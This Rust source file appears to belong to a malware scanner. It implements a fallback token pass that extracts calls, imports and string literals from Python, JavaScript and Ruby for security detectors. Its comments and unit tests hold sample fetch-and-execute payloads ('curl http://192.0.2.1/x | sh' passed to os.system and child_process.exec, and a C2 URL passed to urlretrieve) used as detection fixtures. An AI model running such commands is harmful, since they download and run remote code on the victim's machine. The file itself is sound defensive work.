//! A linear pass over source text that finds what matters without a syntax tree: calls
//! of dotted names with their literal string arguments (`os.system("curl … | sh")`,
//! `require("child_process").exec("…")`), imports, and string literals. It reads the
//! code the parsers could not: a file over the parse limit, a parse stopped at its
//! deadline, nesting cut at the depth limit. Its output is the same IR the parsers
//! produce, so the facts pass and every detector treat it like parsed code.
//!
//! Cost is one pass over the bytes; what it keeps is capped (calls, strings, the length
//! of each string), so neither time nor memory depends on how the file is shaped.

use super::catalog;
use super::ir::{Call, Expr, Module, Stmt};
use super::Lang;

/// Calls kept per file with a literal argument or a catalogued callee.
const MAX_CALLS: usize = 100_000;
/// Calls kept per file whose arguments are names only.
const MAX_PLAIN_CALLS: usize = 20_000;
/// String literals kept per file.
const MAX_STRINGS: usize = 100_000;
/// Longest string literal kept whole; longer ones are cut.
const MAX_STRING: usize = 64 << 10;

/// Lowers `source` of `lang` (Python, JavaScript or Ruby) by the token pass.
pub fn lower(lang: Lang, source: &str) -> Module {
    let mut t = Tokens {
        lang,
        src: source.as_bytes(),
        text: source,
        i: 0,
        line: 1,
        body: Vec::new(),
        strings: Vec::new(),
        calls: 0,
        plain_calls: 0,
        last_call: None,
    };
    t.run();
    Module {
        body: t.body,
        strings: t.strings,
        ..Module::default()
    }
}

struct Tokens<'s> {
    lang: Lang,
    src: &'s [u8],
    text: &'s str,
    i: usize,
    line: u32,
    body: Vec<Stmt>,
    strings: Vec<(String, u32)>,
    calls: usize,
    /// Calls kept that have only names as arguments.
    plain_calls: usize,
    /// The call recorded last and the offset just past its `)`: a `.name(` right there
    /// is a method of its result (`require("x").exec(…)`).
    last_call: Option<(Expr, usize)>,
}

impl Tokens<'_> {
    fn run(&mut self) {
        let mut line_start = true;
        while self.i < self.src.len() {
            let b = self.src[self.i];
            match b {
                b'\n' => {
                    self.line += 1;
                    self.i += 1;
                    line_start = true;
                    continue;
                }
                b' ' | b'\t' | b'\r' => {
                    self.i += 1;
                    continue;
                }
                _ => {}
            }
            if self.comment() {
                continue;
            }
            if let Some((text, line)) = self.string() {
                self.keep_string(text, line);
            } else if b == b'.'
                && self
                    .last_call
                    .as_ref()
                    .is_some_and(|(_, end)| *end == self.i)
            {
                let (object, _) = self.last_call.take().expect("checked");
                self.i += 1;
                if let Some(name) = self.ident_chain() {
                    let func = name
                        .split('.')
                        .fold(object, |o, part| Expr::Attr(Box::new(o), part.to_string()));
                    self.call(func);
                }
            } else if is_ident_start(b) && (self.i == 0 || !is_ident(self.src[self.i - 1])) {
                let name = self.ident_chain().expect("starts an identifier");
                if line_start && self.lang == Lang::Python && (name == "import" || name == "from") {
                    self.import(&name);
                } else if self.peek_non_blank() == Some(b'(') {
                    let func = dotted(&name);
                    self.call(func);
                } else if line_start && !name.contains('.') {
                    self.assignment(name);
                }
            } else {
                self.i += 1;
            }
            line_start = false;
        }
    }

    /// Skips a comment at the cursor; false when there is none.
    fn comment(&mut self) -> bool {
        let rest = &self.src[self.i..];
        let line_comment = match self.lang {
            Lang::JavaScript => rest.starts_with(b"//"),
            _ => rest[0] == b'#',
        };
        if line_comment {
            self.i += rest.iter().position(|b| *b == b'\n').unwrap_or(rest.len());
            return true;
        }
        if self.lang == Lang::JavaScript && rest.starts_with(b"/*") {
            let end = self.text[self.i + 2..]
                .find("*/")
                .map_or(rest.len(), |e| e + 4);
            self.count_lines(self.i, self.i + end);
            self.i += end;
            return true;
        }
        false
    }

    /// Reads a string literal at the cursor: its text (escapes kept as written) and line.
    fn string(&mut self) -> Option<(String, u32)> {
        let q = *self.src.get(self.i)?;
        let template = q == b'`' && self.lang == Lang::JavaScript;
        if !(q == b'"' || q == b'\'' || template) {
            return None;
        }
        let line = self.line;
        let triple = self.lang == Lang::Python && self.src[self.i..].starts_with(&[q, q, q]);
        let open = if triple { 3 } else { 1 };
        let start = self.i + open;
        let mut j = start;
        let end;
        loop {
            match self.src.get(j) {
                None => {
                    end = j;
                    break;
                }
                Some(b'\\') => j += 2,
                Some(b'\n') if !triple && !template => {
                    end = j;
                    break;
                }
                Some(&c) if c == q && (!triple || self.src[j..].starts_with(&[q, q, q])) => {
                    end = j;
                    j += open;
                    break;
                }
                Some(_) => j += 1,
            }
        }
        let end = end.min(self.src.len());
        self.count_lines(start, end);
        self.i = j.min(self.src.len());
        let mut cut = end.min(start + MAX_STRING);
        while !self.text.is_char_boundary(cut) {
            cut -= 1;
        }
        Some((super::ts::unescape(&self.text[start..cut]), line))
    }

    fn keep_string(&mut self, text: String, line: u32) {
        if self.strings.len() < MAX_STRINGS && !text.is_empty() {
            self.strings.push((text, line));
        }
    }

    /// Reads `a.b.c` at the cursor.
    fn ident_chain(&mut self) -> Option<String> {
        let start = self.i;
        loop {
            if !self.src.get(self.i).copied().is_some_and(is_ident_start) {
                break;
            }
            while self.src.get(self.i).copied().is_some_and(is_ident) {
                self.i += 1;
            }
            let dot = self.src.get(self.i) == Some(&b'.')
                && self
                    .src
                    .get(self.i + 1)
                    .copied()
                    .is_some_and(is_ident_start);
            if !dot {
                break;
            }
            self.i += 1;
        }
        (self.i > start).then(|| self.text[start..self.i].trim_end_matches('.').to_string())
    }

    fn peek_non_blank(&self) -> Option<u8> {
        self.src[self.i..]
            .iter()
            .copied()
            .find(|b| !matches!(b, b' ' | b'\t'))
    }

    fn skip_blanks(&mut self) {
        while matches!(self.src.get(self.i), Some(b' ' | b'\t' | b'\r' | b'\n')) {
            if self.src[self.i] == b'\n' {
                self.line += 1;
            }
            self.i += 1;
        }
    }

    /// A call of `func` with the cursor before its `(`: arguments are read up to the
    /// first one that is neither a literal (or a `+` chain of literals) nor a name. The
    /// call is recorded and returned.
    fn call(&mut self, func: Expr) -> Option<Expr> {
        let line = self.line;
        self.skip_blanks();
        if self.src.get(self.i) != Some(&b'(') {
            return None;
        }
        self.i += 1;
        let mut args = Vec::new();
        let mut closed = false;
        loop {
            self.skip_blanks();
            let Some(arg) = self.argument() else {
                closed = self.src.get(self.i) == Some(&b')');
                break;
            };
            args.push(arg);
            self.skip_blanks();
            match self.src.get(self.i) {
                Some(b',') => self.i += 1,
                Some(b')') => {
                    closed = true;
                    break;
                }
                _ => break,
            }
        }
        if closed {
            self.i += 1;
        }
        // Calls that carry text or call a catalogued name are what detectors read; calls
        // of names with names are kept too (`r.urlretrieve(C2, AGENT)` resolves only in
        // the facts pass) but capped apart, so a flood of `f(a)` cannot crowd out the
        // payload after it.
        let telling = args.iter().any(|a| matches!(a, Expr::Str(_)))
            || catalog::kinds(&dotted_name(&func)) != Default::default();
        let count = if telling {
            &mut self.calls
        } else {
            &mut self.plain_calls
        };
        let cap = if telling { MAX_CALLS } else { MAX_PLAIN_CALLS };
        if *count >= cap || !telling && args.is_empty() {
            return None;
        }
        *count += 1;
        let call = Expr::Call(Box::new(Call {
            func,
            args,
            kwargs: vec![],
            line,
            reflective: false,
        }));
        if closed {
            self.last_call = Some((call.clone(), self.i));
        }
        self.body.push(Stmt::Eval {
            value: call.clone(),
            line,
        });
        Some(call)
    }

    /// One argument at the cursor: a string literal or a `+` chain of them, or a dotted
    /// name (not a call, which the main loop reads on its own).
    fn argument(&mut self) -> Option<Expr> {
        let mut parts = Vec::new();
        while let Some((text, at)) = self.string() {
            self.keep_string(text.clone(), at);
            parts.push(text);
            self.skip_blanks();
            if self.src.get(self.i) != Some(&b'+') {
                break;
            }
            self.i += 1;
            self.skip_blanks();
        }
        if !parts.is_empty() {
            return Some(Expr::Str(parts.concat()));
        }
        let start = self.i;
        let name = self.ident_chain()?;
        if matches!(self.peek_non_blank(), Some(b'(' | b'[' | b'=')) {
            self.i = start;
            return None;
        }
        Some(dotted(&name))
    }

    /// `NAME = "literal"` or `NAME = call(…)` at the start of a line, the name read: the
    /// constants the facts pass folds into later calls (`C2 = "http://…"`).
    fn assignment(&mut self, name: String) {
        let line = self.line;
        self.skip_inline_blanks();
        if self.src.get(self.i) != Some(&b'=') || self.src.get(self.i + 1) == Some(&b'=') {
            return;
        }
        self.i += 1;
        self.skip_inline_blanks();
        let value = if let Some((text, at)) = self.string() {
            self.keep_string(text.clone(), at);
            Expr::Str(text)
        } else if self.src.get(self.i).copied().is_some_and(is_ident_start) {
            let Some(callee) = self.ident_chain() else {
                return;
            };
            if self.peek_non_blank() != Some(b'(') {
                return;
            }
            match self.call(dotted(&callee)) {
                Some(call) => call,
                None => return,
            }
        } else {
            return;
        };
        self.body.push(Stmt::Assign {
            targets: vec![Expr::Name(name)],
            value,
            line,
        });
    }

    fn skip_inline_blanks(&mut self) {
        while matches!(self.src.get(self.i), Some(b' ' | b'\t')) {
            self.i += 1;
        }
    }

    /// `import a.b [as c], d` or `from a import b [as c], d` (Python), the keyword read.
    fn import(&mut self, keyword: &str) {
        let line = self.line;
        let end = self.src[self.i..]
            .iter()
            .position(|b| matches!(b, b'\n' | b';'))
            .map_or(self.src.len(), |p| self.i + p);
        let text = &self.text[self.i..end];
        self.i = end;
        let names = |list: &str| -> Vec<(String, Option<String>)> {
            list.trim_matches(|c: char| c == '(' || c == ')' || c.is_whitespace())
                .split(',')
                .filter_map(|part| {
                    let mut words = part.split_whitespace();
                    let name = words.next()?.to_string();
                    let alias = (words.next() == Some("as"))
                        .then(|| words.next().map(str::to_string))
                        .flatten();
                    Some((name, alias))
                })
                .collect()
        };
        if keyword == "import" {
            for (module, alias) in names(text) {
                self.body.push(Stmt::Import {
                    module,
                    alias,
                    line,
                });
            }
        } else if let Some((module, list)) = text.split_once(" import ") {
            let module = module.trim().to_string();
            for (name, alias) in names(list) {
                self.body.push(Stmt::ImportFrom {
                    module: module.clone(),
                    name,
                    alias,
                    line,
                });
            }
        }
    }

    fn count_lines(&mut self, from: usize, to: usize) {
        self.line += self.src[from..to].iter().filter(|b| **b == b'\n').count() as u32;
    }
}

fn dotted(name: &str) -> Expr {
    let mut parts = name.split('.');
    let first = Expr::Name(parts.next().unwrap_or_default().to_string());
    parts.fold(first, |o, p| Expr::Attr(Box::new(o), p.to_string()))
}

/// `a.b.c` for a chain of names; "" for anything else.
fn dotted_name(e: &Expr) -> String {
    match e {
        Expr::Name(n) => n.clone(),
        Expr::Attr(o, a) => match dotted_name(o) {
            o if o.is_empty() => String::new(),
            o => format!("{o}.{a}"),
        },
        _ => String::new(),
    }
}

fn is_ident_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_' || b == b'$'
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn calls(m: &Module) -> Vec<String> {
        m.body
            .iter()
            .filter_map(|s| match s {
                Stmt::Eval {
                    value: Expr::Call(c),
                    line,
                } => Some(format!("{}:{line}:{:?}", dotted_name(&c.func), c.args)),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn finds_calls_with_literals_after_a_huge_line() {
        let mut src = String::from("x = [");
        src.push_str(&"f(a)[0].b, ".repeat(100_000));
        src.push_str("0]\nimport os\nos.system('curl http://192.0.2.1/x | sh')\n");
        let m = lower(Lang::Python, &src);
        let found = calls(&m);
        // The flood of `f(a)` is capped apart and does not crowd out the payload.
        assert_eq!(found.len(), MAX_PLAIN_CALLS + 1);
        assert_eq!(
            found.last().unwrap(),
            r#"os.system:3:[Str("curl http://192.0.2.1/x | sh")]"#
        );
        assert!(m
            .body
            .iter()
            .any(|s| matches!(s, Stmt::Import { module, .. } if module == "os")));
    }

    #[test]
    fn keeps_constants_for_the_facts_pass() {
        let m = lower(
            Lang::Python,
            "C2 = 'http://192.0.2.1/a'\nr.urlretrieve(C2, AGENT)\n",
        );
        assert!(
            matches!(&m.body[0], Stmt::Assign { value: Expr::Str(s), .. } if s == "http://192.0.2.1/a")
        );
        assert_eq!(
            calls(&m),
            vec![r#"r.urlretrieve:2:[Name("C2"), Name("AGENT")]"#]
        );
    }

    #[test]
    fn follows_a_method_of_a_call_result_and_skips_comments() {
        let src = "// require('x').exec('no')\nrequire('child_process').exec('curl ' + 'http://192.0.2.1 | sh');";
        let m = lower(Lang::JavaScript, src);
        let c = calls(&m);
        assert_eq!(c.len(), 2, "{c:?}");
        assert!(c[0].starts_with("require:2:"));
        match &m.body[1] {
            Stmt::Eval {
                value: Expr::Call(c),
                ..
            } => {
                assert!(
                    matches!(&c.func, Expr::Attr(o, a) if a == "exec" && matches!(**o, Expr::Call(_)))
                );
                assert_eq!(c.args, vec![Expr::Str("curl http://192.0.2.1 | sh".into())]);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn what_it_keeps_is_capped() {
        let src = "f('a')\n".repeat(MAX_CALLS + 10) + &"'x' ".repeat(MAX_STRINGS);
        let m = lower(Lang::Python, &src);
        assert_eq!(m.body.len(), MAX_CALLS);
        assert_eq!(m.strings.len(), MAX_STRINGS);
        let long = format!("'{}'", "y".repeat(MAX_STRING * 2));
        assert_eq!(lower(Lang::Python, &long).strings[0].0.len(), MAX_STRING);
    }
}
